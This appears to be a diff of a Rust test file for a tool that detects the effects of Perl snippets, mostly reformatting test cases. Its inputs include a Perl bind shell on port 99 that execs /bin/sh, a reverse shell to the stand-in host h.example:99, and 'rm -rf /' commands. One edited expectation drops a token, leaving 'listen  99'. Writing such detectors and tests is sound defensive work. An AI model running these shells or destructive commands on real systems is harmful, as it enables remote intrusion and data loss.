@@ -77,7 +77,7 @@ fn files_and_connections() {
             ),
             (
                 "use Socket;socket(S,2,1,6);bind(S,sockaddr_in(99,INADDR_ANY));listen(S,5);accept(C,S);open STDIN,'<&C';exec '/bin/sh'",
-                &["listen ‹computed› 99", "attach", "shell /bin/sh"],
+                &["listen  99", "attach", "shell /bin/sh"],
             ),
             (
                 "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"h.example:99\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
@@ -163,13 +163,22 @@ fn names_flow_through_everything() {
             ("open F,substr 'x/srv/x',1", &["read /srv/x"]),
             ("*go = sub { system @_ }; go('id')", &["shell id"]),
             ("sub AUTOLOAD { system 'id' } nothing(1);", &["shell id"]),
-            ("package P; sub new { bless {c=>$_[1]}, shift } sub go { system $_[0]{c} } package main; P->new('id')->go", &["shell id"]),
-            ("package A; sub go { system 'id' } package B; our @ISA=('A'); package main; my $m='go'; B->$m", &["shell id"]),
+            (
+                "package P; sub new { bless {c=>$_[1]}, shift } sub go { system $_[0]{c} } package main; P->new('id')->go",
+                &["shell id"],
+            ),
+            (
+                "package A; sub go { system 'id' } package B; our @ISA=('A'); package main; my $m='go'; B->$m",
+                &["shell id"],
+            ),
             ("main->can('go')->('id'); sub go { system shift }", &["shell id"]),
             ("my $c = do { local $/; 'id' }; system $c", &["shell id"]),
             ("my $x = 1 ? 'id' : 'who'; system $x", &["shell id"]),
             ("if (@ARGV) { $t='/' } else { $t='build' } system \"rm -rf $t\"", &["shell rm -rf /"]),
-            ("if ($ENV{NOPE}) { $t='/' } else { $t='build' } system \"rm -rf $t\"", &["shell rm -rf /", "shell rm -rf build"]),
+            (
+                "if ($ENV{NOPE}) { $t='/' } else { $t='build' } system \"rm -rf $t\"",
+                &["shell rm -rf /", "shell rm -rf build"],
+            ),
             ("our $x='/srv/x'; sub f { local $x='y'; return 1 } f(); open F,$x", &["read /srv/x"]),
             ("while(<DATA>){chomp; system $_}\n__DATA__\nid\n", &["shell id"]),
             ("$SIG{ALRM}=sub{system 'id'};", &["shell id"]),
@@ -179,7 +188,10 @@ fn names_flow_through_everything() {
             ("@ARGV=('/srv/x');print <>", &["read /srv/x"]),
             ("use constant CMD => 'id'; system CMD", &["shell id"]),
             ("exit; BEGIN { system 'id' }", &["shell id"]),
-            ("my $s = sub { my ($c) = @_; system $c }; $s->('id'); &$s('who')", &["shell id", "shell who"]),
+            (
+                "my $s = sub { my ($c) = @_; system $c }; $s->('id'); &$s('who')",
+                &["shell id", "shell who"],
+            ),
         ],
     );
 }
@@ -191,7 +203,9 @@ fn text_that_is_no_perl_is_not_taken_for_harmless() {
 
 #[test]
 fn deep_nesting_is_open_and_quick() {
-    for (open, close) in [("(", ")"), ("[", "]"), ("{", "}"), ("@{", "}"), ("do{", "}"), ("map{", "}")] {
+    for (open, close) in
+        [("(", ")"), ("[", "]"), ("{", "}"), ("@{", "}"), ("do{", "}"), ("map{", "}")]
+    {
         let start = std::time::Instant::now();
         let code = format!("{}1{}", open.repeat(10_000), close.repeat(10_000));
         assert!(effects_in(Perl, &code).contains(&"hidden".to_owned()), "{open}");
